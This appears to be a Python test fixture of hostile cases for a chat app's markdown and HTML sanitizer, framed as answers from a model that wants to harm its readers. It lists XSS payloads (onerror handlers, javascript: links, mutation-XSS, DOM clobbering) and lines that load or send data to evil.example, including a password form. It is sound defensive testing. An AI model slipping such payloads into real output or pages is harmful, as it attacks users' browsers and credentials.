"""Answers of a model that wants to harm whoever reads them, each a case of its own.

Whatever would run sets `window.pwned`; whatever would be fetched is at evil.example.
"""

from pathlib import Path

SCRIPT = (Path(__file__).parent / "js" / "hostile.js").read_text()

CASES = {
    "script": "a <script>window.pwned = 1</script> b",
    "image": 'a <img src=x onerror="window.pwned = 1"> <image src=x onerror=pwned=1>',
    "svg": '<svg onload="window.pwned = 1"><animate onbegin=pwned=1 attributeName=x dur=1s>'
    "<use href=//evil.example/a#b /></svg>",
    "foreign namespaces": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
    "frames": '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>parent.pwned=1'
    '</script>"></iframe><object data=//evil.example/o></object><embed src=//evil.example/e>',
    "head": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url='
    '//evil.example"><link rel=stylesheet href=//evil.example/a.css><title>mine</title>',
    "styles": "<style>body{display:none;background:url(//evil.example/b)}</style>"
    '<p style="position:fixed;inset:0;background:url(//evil.example/c)">over everything</p>',
    "forms": '<form action="//evil.example"><input name=password autofocus onfocus=pwned=1>'
    "<button formaction=javascript:pwned=1>go</button></form></form>",
    "media": "<video autoplay src=//evil.example/v><audio src=//evil.example/a onerror=pwned=1>"
    "<details open ontoggle=pwned=1><marquee onstart=pwned=1>",
    "ends": "</div></div></li></ol></main></body></html><script>window.pwned=1</script>"
    "</textarea></template></select><h1>outside</h1>",
    "half open": 'first <b><div class="dialog"><table><tr><td><!-- <![CDATA[ <img src="//evil',
    "clobbering": "<a id=composer name=composer>x</a><form id=chat name=body>"
    "<input name=attributes><img name=getElementById>",
    "addresses": "[a](javascript:pwned=1) [b](JaVaScRiPt&#58;pwned=1) [c](java&Tab;script:pwned=1)"
    " [d](&#x6A;avascript:pwned=1) [e](vbscript:pwned=1) "
    "[f](data:text/html,<script>pwned=1</script>) [g](\x01javascript:pwned=1) "
    "[h](blob:https://evil.example/1) [i](//evil.example/j)",
    "references": '[x] [y][x] ![z][x]\n\n[x]: javascript:pwned=1 "t"\n\n[x]: https://evil.example/',
    "autolinks": "<javascript:pwned=1> <data:text/html,x> https://good.example/?q=<img/src=x>",
    "titles": "[a](https://good.example 'x\" onmouseover=\"pwned=1') "
    '[b](https://good.example/"onclick="pwned=1)',
    "images": "![a](https://evil.example/p.png) [![b](https://evil.example/q.png)]"
    '(https://good.example/) ![c"onerror=pwned=1](x)',
    "code": "``` <img src=x onerror=pwned=1>\n<script>pwned=1</script>\n```\n\n"
    "`<img src=x onerror=pwned=1>` ``</code><script>pwned=1</script>``",
    "coloured code": "```html\n<img src=x onerror=pwned=1>\n</code></pre><script>pwned=1</script>\n"
    "```\n\n```js\nlet a = `${'</span><img src=x onerror=pwned=1>'}`;\n",
    "table": "| <img src=x onerror=pwned=1> | b |\n|:-:|---|\n| <td onclick=pwned=1> | "
    "[q](javascript:pwned=1) |\n| `a|b` | <script>pwned=1</script>",
    "entities": "&lt;script&gt;pwned=1&lt;/script&gt; &amp;lt;img src=x onerror=pwned=1&amp;gt; "
    "&#60;img src=x onerror=pwned=1&#62;",
    "bidi": "\u202ereversed \u2066isolated \u2067more\n\n- \u202e<img src=x>\n\n"
    "next \u200f\u200e line",
    "odd characters": "nul \0 bom \ufeff \u2028\u2029 \ud83d\udc4b\ud83c\udffd half \ud83d"
    " <scr\0ipt>pwned=1</scr\0ipt> \u212a\u017f <\u0130mg>",
    "deep": "> " * 40 + "- " * 40 + "[" * 100 + "*" * 60 + "_a" * 30,
    "wide": "W" * 300
    + " https://good.example/"
    + "x" * 300
    + "\n\n"
    + "| a" * 40
    + " |\n"
    + "|---" * 40
    + "|\n\n```\n"
    + "y" * 300,
}
